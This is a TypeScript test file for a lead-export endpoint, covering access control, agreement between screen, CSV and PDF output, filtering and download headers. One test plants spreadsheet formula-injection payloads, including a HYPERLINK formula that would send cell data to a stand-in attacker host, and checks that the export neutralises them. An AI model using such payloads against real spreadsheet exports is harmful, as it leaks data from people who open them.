import { leadList } from "@schaufenster/contract/areas/leads/lead-export.rules.ts";
import { leads } from "@schaufenster/contract/areas/leads/leads.calls.ts";
import { readCsv } from "@schaufenster/contract/values/list/read-csv.ts";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { buildUser } from "../../../test/builders.ts";
import { buildLead } from "./leads.builders.ts";
import { Browser, signedIn } from "../../../test/client.ts";
import { expectSame, ownerOf, tableOf } from "../../../test/exported.ts";
import { type House, openHouse } from "../../../test/house.ts";
import { pdfTexts } from "../../../test/pdf-text.ts";

let house: House;
beforeAll(async () => void (house = await openHouse()));
afterAll(() => house.close());

describe("exportLeads", () => {
  test("refuses without a session, to strangers, and to people without the role", async () => {
    const { accountId } = await ownerOf(house);
    const query = { format: "csv" } as const;
    expect((await (await new Browser(house).open()).send(leads.exportLeads, { query }, { accountId })).status).toBe(401);
    const stranger = await ownerOf(house);
    expect((await stranger.browser.send(leads.exportLeads, { query }, { accountId })).status).toBe(404);
    const reader = await buildUser(house, { role: "user" });
    expect((await (await signedIn(house, reader.login)).send(leads.exportLeads, { query }, { accountId })).status).toBe(403);
  });

  test("screen, CSV and PDF say the same, page by page and with the same filter", async () => {
    const { accountId, browser } = await ownerOf(house);
    for (let id = 1; id <= 23; id += 1) {
      await buildLead(house, {
        accountId,
        id,
        hoursAgo: id,
        state: id % 3 === 0 ? "accepted" : id % 3 === 1 ? "expired" : "new",
        mark: `nr${id}`,
      } as never);
    }
    for (const filter of [{}, { status: "accepted" }, { status: "expired" }, { status: "new" }] as const) {
      const seen = [];
      for (let offset = 0; offset < 30; offset += 10) {
        seen.push(...(await browser.send(leads.getLeads, { query: { ...filter, offset } }, { accountId })).data.leads);
      }
      const csv = await browser.send(leads.exportLeads, { query: { ...filter, format: "csv" } }, { accountId });
      const pdf = await browser.send(leads.exportLeads, { query: { ...filter, format: "pdf" } }, { accountId });
      expect(seen.length).toBeGreaterThan(5);
      expectSame(leadList(seen, { total: seen.length }, filter, new Date().toISOString()), csv.text, pdf.bytes);
      expect(csv.text).toContain("Firma");
    }
  });

  test("who asks leaves with an accepted lead only, in neither form", async () => {
    const { accountId, browser } = await ownerOf(house);
    await buildLead(house, { accountId, id: 1, mark: "geheim" });
    await buildLead(house, { accountId, id: 2, mark: "weg", state: "expired" });
    await buildLead(house, { accountId, id: 3, mark: "unser", state: "accepted" });
    const csv = await browser.send(leads.exportLeads, { query: { format: "csv" } }, { accountId });
    const pdf = await browser.send(leads.exportLeads, { query: { format: "pdf" } }, { accountId });
    for (const text of [
      csv.text,
      pdfTexts(pdf.bytes)
        .map((piece) => piece.text)
        .join(""),
    ]) {
      expect(text).toContain("Personunser");
      expect(text).not.toMatch(/Person(geheim|weg)/);
    }
  });

  test("is a download in plain words that no browser opens in our origin", async () => {
    const { accountId, browser } = await ownerOf(house);
    for (const [format, type] of [
      ["csv", "text/csv; charset=utf-8"],
      ["pdf", "application/pdf"],
    ] as const) {
      const { status, headers } = await browser.send(leads.exportLeads, { query: { format } }, { accountId });
      expect([status, headers["content-type"]]).toEqual([200, type]);
      expect(headers["content-disposition"]).toMatch(
        new RegExp(`^attachment; filename\\*=UTF-8''Anfragen_\\d{4}-\\d\\d-\\d\\d\\.${format}$`),
      );
      expect(headers["content-security-policy"]).toBe("sandbox; default-src 'none'");
    }
  });

  test("what a person typed is never run by a spreadsheet (T-CSV)", async () => {
    const { accountId, browser } = await ownerOf(house);
    await buildLead(house, { accountId, id: 1, state: "accepted" });
    const attack = '=HYPERLINK("https://boese.example/?"&A1;"hier")\r\n+1';
    await house.admin.query(
      "update lead set title = $2, message = $2, city = $2, budget = '@SUM(1)', period = '-1+1' where account_id = $1",
      [accountId, attack],
    );
    await house.admin.query("update lead_contact set name = $2, phone = '+49 221 1', street = E'\\t=1' where account_id = $1", [
      accountId,
      attack,
    ]);
    const { text } = await browser.send(leads.exportLeads, { query: { format: "csv" } }, { accountId });
    const [row = []] = tableOf(text);
    expect(tableOf(text)).toHaveLength(1);
    for (const cell of readCsv(text).flat()) expect(cell).not.toMatch(/^\s*[=+@-]/);
    expect(row.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(6);
  });
});
